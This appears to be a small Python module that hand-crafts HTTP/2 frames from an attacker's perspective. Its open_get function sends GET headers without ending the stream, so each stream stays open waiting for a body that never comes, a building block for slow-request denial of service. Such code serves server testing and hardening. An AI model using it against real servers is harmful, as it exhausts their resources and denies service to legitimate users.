"""HTTP/2 as an attacker writes it: frames by hand, streams that are opened and never ended."""

import struct
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS: Final = 1
_SETTINGS: Final = 4
_END_HEADERS: Final = 4


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def settings() -> bytes:
    return PREFACE + frame(_SETTINGS, 0, 0, b"")


def open_get(stream: int, path: str) -> bytes:
    """The headers of a GET, without the end of the stream: a body is announced and never comes."""
    fields = b"\x82\x86" + _named(4, path) + _named(1, "x")
    return frame(_HEADERS, _END_HEADERS, stream, fields)


def _named(index: int, value: str) -> bytes:
    """A header of HPACK's static table with a value of its own."""
    return bytes([index, len(value)]) + value.encode()
